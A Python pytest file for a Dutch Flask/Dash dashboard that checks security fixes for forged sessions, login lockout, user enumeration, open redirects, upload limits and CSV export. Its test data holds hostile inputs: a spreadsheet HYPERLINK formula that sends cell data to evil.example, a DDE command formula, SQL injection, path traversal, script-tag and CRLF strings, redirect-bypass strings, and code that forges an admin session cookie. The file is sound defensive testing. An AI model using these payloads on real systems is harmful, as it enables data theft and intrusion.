"""Issue 10, web findings: forged demo sessions, the lockout race, user enumeration, open redirects, one-time
passwords, upload and field limits, CSV formula injection and 500s on crafted parameters."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import threading
from concurrent.futures import ProcessPoolExecutor
from urllib.parse import quote

import pytest
from flask.sessions import SecureCookieSessionInterface
from sqlalchemy import func, select

import dashboard.auth as auth
from dashboard import ids
from dashboard.config import demo_secret_key, load_config
from data_access import transitie, users
from data_access.audit import audit_events
from data_access.export_safety import safe_cell
from data_access.importers import import_file
from data_access.models import AuditEvent, RejectedRow, User, utcnow
from tests.conftest import dash_post, login, write_csv

OLD_CONSTANT_KEY = "demo-only-secret-key-not-for-production"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
NAV_USER = {"output": "shell-nav-user.children", "inputs": [{"id": "shell-url", "property": "pathname", "value": "/"}]}


def _token(client, path: str = "/login") -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', client.get(path).get_data(as_text=True)).group(1)


def _error_text(response) -> str:
    match = re.search(r'<p class="login-error" role="alert">(.*?)</p>', response.get_data(as_text=True), re.S)
    return match.group(1) if match else ""


# ---------------------------------------------------------------- finding 1: secrets

def _forged_admin_cookie(app, key: str) -> str:
    """A session cookie for user 1 (beheerder) as an attacker would sign it with `key`."""
    server = app.server
    original = server.secret_key
    server.secret_key = key
    try:
        serializer = SecureCookieSessionInterface().get_signing_serializer(server)
        return serializer.dumps({"_user_id": "1", "_fresh": True, "login_at": utcnow().isoformat()})
    finally:
        server.secret_key = original


def test_demo_mode_never_signs_with_a_constant_key(make_app, tmp_path):
    app = make_app(TESTING=False, INSTANCE_DIR=str(tmp_path))
    with app.server.extensions["engine"].connect() as conn:
        assert conn.execute(select(User.role).where(User.id == 1)).scalar() == "beheerder"
    forged = app.server.test_client()
    forged.set_cookie("session", _forged_admin_cookie(app, OLD_CONSTANT_KEY))
    assert forged.get("/beheer/gebruikers").status_code == 302  # to /login: the signature does not hold
    key = app.server.secret_key
    assert key != OLD_CONSTANT_KEY and len(key) >= 32
    assert (tmp_path / "secret_key").read_text().strip() == key
    assert stat.S_IMODE(os.stat(tmp_path / "secret_key").st_mode) == 0o600
    # control: with the real key the same cookie would open the page, so the refusal above is the key's doing
    real = app.server.test_client()
    real.set_cookie("session", _forged_admin_cookie(app, key))
    assert real.get("/beheer/gebruikers").status_code == 200


def test_demo_key_survives_a_restart_and_is_unique_per_instance(tmp_path):
    first = load_config({"DEMO_MODE": True, "SECRET_KEY": None, "INSTANCE_DIR": str(tmp_path / "a")})["SECRET_KEY"]
    again = load_config({"DEMO_MODE": True, "SECRET_KEY": None, "INSTANCE_DIR": str(tmp_path / "a")})["SECRET_KEY"]
    other = load_config({"DEMO_MODE": True, "SECRET_KEY": None, "INSTANCE_DIR": str(tmp_path / "b")})["SECRET_KEY"]
    assert first == again and first != other


def test_workers_starting_together_share_one_key(tmp_path):
    with ProcessPoolExecutor(max_workers=8) as pool:
        keys = set(pool.map(demo_secret_key, [tmp_path] * 16))
    assert len(keys) == 1
    assert [p.name for p in tmp_path.iterdir()] == ["secret_key"]  # no temporary files left behind


def test_outside_demo_mode_a_secret_key_is_required(monkeypatch):
    monkeypatch.delenv("SECRET_KEY", raising=False)
    with pytest.raises(RuntimeError, match="SECRET_KEY"):
        load_config({"DEMO_MODE": False})


# ---------------------------------------------------------------- finding 4: the lockout race

def test_fifty_parallel_wrong_passwords_lock_after_exactly_five_checks(app, monkeypatch):
    real_check = auth.check_password_hash
    checked = []
    lock = threading.Lock()

    def counting(pwhash: str, password: str) -> bool:
        if pwhash != auth._DUMMY_HASH:
            with lock:
                checked.append(password)
        return real_check(pwhash, password)

    monkeypatch.setattr(auth, "check_password_hash", counting)
    clients = [app.server.test_client() for _ in range(50)]
    tokens = [_token(c) for c in clients]
    start = threading.Barrier(50)
    statuses = []

    def attempt(client, token) -> None:  # noqa: ANN001
        start.wait()
        response = client.post("/login", data={"email": "vijfhoek@demo.nl", "password": "fout-wachtwoord",
                                                "csrf_token": token})
        with lock:
            statuses.append(response.status_code)

    threads = [threading.Thread(target=attempt, args=(c, t)) for c, t in zip(clients, tokens)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(set(statuses)) == [401] and len(statuses) == 50
    assert len(checked) == 5
    # locked: even the right password is not checked now
    assert login(app.server.test_client(), "vijfhoek@demo.nl", "demo").status_code == 401
    assert len(checked) == 5
    with app.server.extensions["engine"].connect() as conn:
        assert conn.execute(select(User.locked_until).where(User.email == "vijfhoek@demo.nl")).scalar() is not None
        lockouts = conn.execute(select(func.count()).select_from(AuditEvent).where(
            AuditEvent.action == "lockout", AuditEvent.actor == "vijfhoek@demo.nl")).scalar()
    assert lockouts == 1


def test_right_password_before_the_limit_resets_the_count(app):
    for _ in range(4):
        login(app.server.test_client(), "vijfhoek@demo.nl", "fout")
    assert login(app.server.test_client(), "vijfhoek@demo.nl", "demo").status_code == 302
    with app.server.extensions["engine"].connect() as conn:
        row = conn.execute(select(User.failed_logins, User.locked_until).where(
            User.email == "vijfhoek@demo.nl")).first()
    assert tuple(row) == (0, None)


# ---------------------------------------------------------------- finding 13: user enumeration

def test_unknown_user_wrong_password_and_locked_account_look_the_same(app, monkeypatch):
    with app.server.extensions["engine"].begin() as conn:
        conn.execute(User.__table__.update().where(User.email == "sterrenwijk@demo.nl").values(
            locked_until=utcnow().replace(year=utcnow().year + 1)))
    real_check = auth.check_password_hash
    calls = []
    monkeypatch.setattr(auth, "check_password_hash", lambda h, p: calls.append(h) or real_check(h, p))
    answers = {}
    for case, email in (("unknown", "niemand@demo.nl"), ("wrong", "vijfhoek@demo.nl"),
                        ("locked", "sterrenwijk@demo.nl")):
        before = len(calls)
        response = login(app.server.test_client(), email, "fout-wachtwoord")
        answers[case] = (response.status_code, _error_text(response))
        assert len(calls) - before == 1, case  # every path costs exactly one scrypt check
    assert answers["unknown"] == answers["wrong"] == answers["locked"]
    assert answers["unknown"] == (401, auth.LOGIN_FAILED)
    assert calls[0] == calls[2] == auth._DUMMY_HASH  # unknown and locked: the dummy hash


# ---------------------------------------------------------------- finding 8: open redirect

REDIRECTS = [
    "//evil.example/x", "/\t/evil.example", "/\n/evil.example", "/\r\n/evil.example", "/\\evil.example",
    "\\\\evil.example", "/%09/evil.example", "/%2F/evil.example", "/%5Cevil.example", "https://evil.example",
    "http:/evil.example", "javascript:alert(1)", "evil.example", " //evil.example", "\x00//evil.example",
    "///evil.example", "/\x7f/evil.example",
]


def _start_page(app, email: str = "transitie@demo.nl", password: str = "demo") -> str:
    """Where a login without `next` leads (the role's own start page)."""
    return login(app.server.test_client(), email, password).headers["Location"]


def test_login_next_only_accepts_a_path_on_this_site(app):
    start = _start_page(app)
    answers = {}
    for target in REDIRECTS:
        client = app.server.test_client()
        response = client.post("/login", data={"email": "transitie@demo.nl", "password": "demo",
                                               "csrf_token": _token(client), "next": target})
        answers[target] = (response.status_code, response.headers.get("Location"))
    assert answers == {target: (302, start) for target in REDIRECTS}


def test_login_next_keeps_a_local_path_with_its_query(app):
    client = app.server.test_client()
    response = client.post("/login", data={"email": "transitie@demo.nl", "password": "demo",
                                           "csrf_token": _token(client), "next": "/buurt/de-vijfhoek?tab=uitkomsten"})
    assert response.headers["Location"] == "/buurt/de-vijfhoek?tab=uitkomsten"


# ---------------------------------------------------------------- finding 9: one-time passwords

def _new_user_with_one_time_password(app) -> str:
    with app.server.extensions["engine"].begin() as conn:
        _, password = users.add_user(conn, "tester", "nieuw@voorbeeld.nl", "transitieteam")
    return password


def test_one_time_password_must_be_replaced_before_anything_else(app):
    password = _new_user_with_one_time_password(app)
    client = app.server.test_client()
    response = login(client, "nieuw@voorbeeld.nl", password)
    assert response.status_code == 302 and response.headers["Location"] == "/account/wachtwoord"
    for path in ("/", "/buurt/de-vijfhoek", "/transitie"):
        assert client.get(path).headers.get("Location") == "/account/wachtwoord", path
    api = client.get("/api/v1/indicators")
    assert api.status_code == 403 and "eenmalig wachtwoord" in api.get_json()["fout"]
    assert client.get("/_dash-layout").status_code == 403
    assert dash_post(client, NAV_USER["output"], NAV_USER["inputs"]).status_code == 403
    page = client.get("/account/wachtwoord")
    assert page.status_code == 200 and "eenmalig wachtwoord" in page.get_data(as_text=True)
    token = _token(client, "/account/wachtwoord")
    assert client.post("/account/wachtwoord", data={"current": password, "new": "Mijn-eigen-wachtwoord",
                                                    "repeat": "Mijn-eigen-wachtwoord"}).status_code == 400  # no CSRF
    bad = client.post("/account/wachtwoord", data={"csrf_token": token, "current": password,
                                                   "new": "Mijn-eigen-wachtwoord", "repeat": "Anders-wachtwoord"})
    assert bad.status_code == 400 and "niet gelijk" in bad.get_data(as_text=True)
    ok = client.post("/account/wachtwoord", data={"csrf_token": token, "current": password,
                                                  "new": "Mijn-eigen-wachtwoord", "repeat": "Mijn-eigen-wachtwoord"})
    assert ok.status_code == 200 and "gewijzigd" in ok.get_data(as_text=True)
    assert login(app.server.test_client(), "nieuw@voorbeeld.nl", password).status_code == 401
    again = app.server.test_client()
    assert login(again, "nieuw@voorbeeld.nl", "Mijn-eigen-wachtwoord").headers["Location"] == _start_page(app)
    assert again.get("/").status_code == 200


def test_logout_stays_open_with_a_one_time_password(app):
    password = _new_user_with_one_time_password(app)
    client = app.server.test_client()
    login(client, "nieuw@voorbeeld.nl", password)
    token = _token(client, "/account/wachtwoord")
    assert client.post("/logout", data={"csrf_token": token}).headers["Location"] == "/login"
    assert client.get("/account/wachtwoord").headers["Location"].startswith("/login")


def test_a_reset_password_is_one_time_too_and_a_chosen_one_is_not(app):
    engine = app.server.extensions["engine"]
    with engine.begin() as conn:
        users.add_user(conn, "tester", "gekozen@voorbeeld.nl", "transitieteam", password="Zelf-gekozen-wachtwoord")
        user_id = conn.execute(select(User.id).where(User.email == "gekozen@voorbeeld.nl")).scalar()
    assert _start_page(app, "gekozen@voorbeeld.nl", "Zelf-gekozen-wachtwoord") == _start_page(app)
    with engine.begin() as conn:
        password = users.reset_password(conn, "tester", user_id)
    assert login(app.server.test_client(), "gekozen@voorbeeld.nl", password).headers[
        "Location"] == "/account/wachtwoord"


# ---------------------------------------------------------------- finding 10 (web): size and length limits

def test_oversized_upload_is_refused_by_the_server_with_a_dutch_413(make_app):
    app = make_app(MAX_UPLOAD_MB=0.1)  # a 100 kB file: requests up to ~1.1 MB (base64 in JSON plus 1 MB)
    client = app.server.test_client()
    login(client, "transitie@demo.nl")
    body = "x" * 1_500_000
    response = dash_post(client, "beheer-upload-result.children",
                         [{"id": "beheer-upload", "property": "contents", "value": body}])
    assert response.status_code == 413
    assert response.get_json()["fout"].startswith("Het bestand of verzoek is te groot")
    page = client.post("/account/wachtwoord", data={"csrf_token": "x", "current": body})
    assert page.status_code == 413 and "te groot" in page.get_data(as_text=True)


def test_login_fields_have_a_length_limit_with_a_dutch_message(app):
    client = app.server.test_client()
    response = client.post("/login", data={"email": "a" * 190 + "@voorbeeld.nl", "password": "x",
                                           "csrf_token": _token(client)})
    assert response.status_code == 401 and "hoogstens 200 tekens" in _error_text(response)
    page = client.get("/login").get_data(as_text=True)
    assert 'maxlength="200"' in page


@pytest.mark.parametrize(("field", "value", "message"), [
    ("name", "n" * 201, "naam mag hoogstens 200"),
    ("email", "a" * 196 + "@x.nl", "e-mailadres mag hoogstens 200"),
    ("supplier_source", "b" * 101, "bron mag hoogstens 100"),
    ("password", "p" * 201, "wachtwoord mag hoogstens 200"),
    ("email", ["a@b.nl"], "Ongeldige invoer"),
    ("programmes", [{"x": 1}], "Ongeldige keuze"),
])
def test_user_fields_have_length_limits(engine, field, value, message):
    kwargs = {"email": "lang@voorbeeld.nl", "role": "leverancier" if field == "supplier_source" else "transitieteam"}
    kwargs[field] = value
    with engine.begin() as conn, pytest.raises(users.UserError, match=message):
        users.add_user(conn, "tester", **kwargs)


def test_password_change_form_limits_its_fields(app):
    client = app.server.test_client()
    login(client, "vijfhoek@demo.nl")
    token = _token(client, "/account/wachtwoord")
    long = "L" * 201
    response = client.post("/account/wachtwoord", data={"csrf_token": token, "current": "demo", "new": long,
                                                        "repeat": long})
    assert response.status_code == 400 and "hoogstens 200 tekens" in response.get_data(as_text=True)


# ---------------------------------------------------------------- finding 12: CSV formula injection

def test_safe_cell_neutralises_formula_text_only():
    assert [safe_cell(v) for v in ("=1+1", "+31", "-x", "@SUM(A1)", "\tx", "\rx", "gewoon", -3.5, 0)] == [
        "'=1+1", "'+31", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "gewoon", -3.5, 0]


DELIVERY = f"""gebied;indicator;periode;teller;noemer;waarde;bron
BU03920105;wvpk_uren_per_client;2024-B1;4200;30;;"{EVIL.replace('"', '""')}"
BU03920105;seh_per_1000;2024-B1;4;3000;;Verzekeraar A
"""
REJECTED = """gebied;indicator;periode;teller;noemer;waarde;bron
=cmd|'/c calc'!A1;seh_per_1000;2024-B1;4;3000;;Verzekeraar A
"""


def _csv_cells(text: str, sep: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=sep) for cell in row]


def test_api_csv_downloads_neutralise_formulas(app, tmp_path):
    import_file(app.server.extensions["engine"], "levering", write_csv(tmp_path / "l.csv", DELIVERY))
    client = app.server.test_client()
    login(client, "transitie@demo.nl")
    for fmt, sep in (("csv", ","), ("csv-nl", ";")):
        response = client.get(f"/api/v1/observations?area=BU03920105&format={fmt}")
        assert response.status_code == 200
        cells = _csv_cells(response.get_data(as_text=True), sep)
        assert "'" + EVIL in cells and EVIL not in cells
    catalogue = _csv_cells(client.get("/api/v1/indicators?format=csv").get_data(as_text=True), ",")
    assert "-0.15" in catalogue  # a negative target stays a number


def test_rejected_rows_download_neutralises_formulas(app, tmp_path):
    engine = app.server.extensions["engine"]
    report = import_file(engine, "levering", write_csv(tmp_path / "l.csv", REJECTED))
    with engine.begin() as conn:  # an importer that keeps the raw line (some do) would store it like this
        conn.execute(RejectedRow.__table__.insert().values(batch_id=report.batch_id, line=3, reason="@reden",
                                                           content=EVIL))
    client = app.server.test_client()
    login(client, "transitie@demo.nl")
    response = client.get(f"/beheer/upload/afgewezen/{report.batch_id}.csv")
    assert response.status_code == 200
    cells = _csv_cells(response.get_data(as_text=True), ";")
    assert "'" + EVIL in cells and "'@reden" in cells and EVIL not in cells
    assert "onbekend gebied '=cmd|'/c calc'!a1'" in cells  # not at the start: left alone


def test_transitie_candidate_download_neutralises_formulas(app, monkeypatch):
    import pandas as pd

    import callbacks.transitie as page

    monkeypatch.setattr(page, "ranked_candidates", lambda conn, level, weights: pd.DataFrame([_candidate_row()]))
    client = app.server.test_client()
    login(client, "transitie@demo.nl")
    response = dash_post(client, f"{ids.TRANSITIE_CAND_DOWNLOAD}.data",
                         [{"id": ids.TRANSITIE_CAND_CSV, "property": "n_clicks", "value": 1}],
                         [{"id": ids.TRANSITIE_CAND_LEVEL, "property": "value", "value": "buurt"}, []])
    assert response.status_code == 200
    content = response.get_json()["response"][ids.TRANSITIE_CAND_DOWNLOAD]["data"]["content"]
    cells = _csv_cells(content, ";")
    assert "'" + EVIL in cells and "'@gemeente" in cells and "-1,25" in cells


# ---------------------------------------------------------------- finding 14: crafted parameters

NASTY = ["", " ", "²", "99999999999999999999999", "-1", "0", "1e309", "nan", "%00", "a%00b", "%ED%A0%80", "%FF",
         "'; DROP TABLE app_user;--", "../../etc/passwd", "<script>x</script>", "x" * 3000, "😀", "2024-B9",
         "9999-Q1", "null", ",,,", "%0d%0aX-Evil:1", "=HYPERLINK(1)"]
API_PARAMS = {
    "/api/v1/indicators": ["format"],
    "/api/v1/areas": ["level", "indeling", "format"],
    "/api/v1/observations?area=BU03920105": ["area", "indicator", "period", "benchmark", "format"],
    "/api/v1/programma/de-vijfhoek/kpi": ["vergelijking", "format"],
    "/api/v1/programma/kpi": ["vergelijking", "format"],
    "/api/v1/programma/de-vijfhoek/leerpartners": ["indicator", "format"],
    "/api/v1/programma/de-vijfhoek/begroting": ["jaar", "format"],
    "/api/v1/programma/de-vijfhoek/realisatie": ["jaar", "format"],
    "/api/v1/programma/de-vijfhoek/impact": ["format"],
    "/api/v1/programma/impact": ["format"],
}
PATH_ROUTES = ["/api/v1/programma/{}/kpi", "/api/v1/programma/{}/leerpartners", "/api/v1/programma/{}/begroting",
               "/api/v1/programma/{}/realisatie", "/api/v1/programma/{}/impact", "/export/best-practice/{}.png",
               "/beheer/upload/afgewezen/{}.csv"]


def _encoded(value: str) -> str:
    return value if value.startswith("%") else quote(value, safe="")


def test_every_api_route_answers_crafted_parameters_without_a_500(app, tmp_path):
    import_file(app.server.extensions["engine"], "levering", write_csv(tmp_path / "l.csv", DELIVERY))
    client = app.server.test_client()
    login(client, "transitie@demo.nl")
    routes = {rule.rule for rule in app.server.url_map.iter_rules() if rule.rule.startswith("/api/v1/")}
    assert len(routes) == len(API_PARAMS)  # a new route must be added to the fuzz list
    failures = []
    for route, params in API_PARAMS.items():
        for param in params:
            for value in NASTY:
                url = f"{route}{'&' if '?' in route else '?'}{param}={_encoded(value)}"
                response = client.get(url)
                if response.status_code >= 500:
                    failures.append((url[:100], response.status_code))
                elif response.status_code == 400:
                    assert response.get_json()["fout"], url
    for template in PATH_ROUTES:
        for value in NASTY[1:]:
            response = client.get(template.format(_encoded(value)))
            if response.status_code >= 500:
                failures.append((template.format(value)[:100], response.status_code))
    assert failures == []


@pytest.mark.parametrize("indeling", ["²", "99999999999999999999999", "２０２４"])
def test_areas_with_a_bad_indeling_is_a_400_with_a_json_error(client, indeling):
    response = client.get(f"/api/v1/areas?indeling={quote(indeling)}")
    assert response.status_code == 400 and "jaartal" in response.get_json()["fout"]


def _candidate_row() -> dict:
    row = {"rank": 1, "code": "BU03920105", "name": EVIL, "gemeente": "@gemeente", "inwoners": 1200,
           "score": -1.25, "criteria_ok": 0}
    for comp in transitie.CASE_COMPONENTS:
        row[comp.code], row[f"z_{comp.code}"] = -2.0, -0.5
    return row


@pytest.mark.parametrize("weights", [
    [],
    [{"id": {"type": "transitie-weight", "component": "x"}, "property": "value", "value": 2}],
    [{"id": {"type": "transitie-weight", "component": "x"}, "property": "value", "value": "veel"}],
])
def test_transitie_candidates_with_incomplete_weights_still_answer(app, monkeypatch, weights):
    import pandas as pd

    import callbacks.transitie as page

    monkeypatch.setattr(page, "ranked_candidates", lambda conn, level, w: pd.DataFrame([_candidate_row()]))
    client = app.server.test_client()
    login(client, "transitie@demo.nl")
    output = f"{ids.TRANSITIE_CAND_INFO}.children"
    response = dash_post(client, output, [{"id": ids.TRANSITIE_CAND_LEVEL, "property": "value", "value": "buurt"},
                                          weights], changed=[f"{ids.TRANSITIE_CAND_LEVEL}.value"])
    assert response.status_code == 200
    assert "Gewichten" in json.dumps(response.get_json()["response"][ids.TRANSITIE_CAND_INFO])
    download = dash_post(client, f"{ids.TRANSITIE_CAND_DOWNLOAD}.data",
                         [{"id": ids.TRANSITIE_CAND_CSV, "property": "n_clicks", "value": 1}],
                         [{"id": ids.TRANSITIE_CAND_LEVEL, "property": "value", "value": "buurt"}, weights])
    assert download.status_code == 200 and "BU03920105" in download.get_data(as_text=True)


def test_audit_of_refused_logins_keeps_the_reason(app):
    with app.server.extensions["engine"].begin() as conn:
        conn.execute(User.__table__.update().where(User.email == "sterrenwijk@demo.nl").values(
            locked_until=utcnow().replace(year=utcnow().year + 1)))
    login(app.server.test_client(), "sterrenwijk@demo.nl", "demo")
    with app.server.extensions["engine"].connect() as conn:
        events = audit_events(conn, actor="sterrenwijk@demo.nl")
    assert list(events["detail"])[0] == "account geblokkeerd"
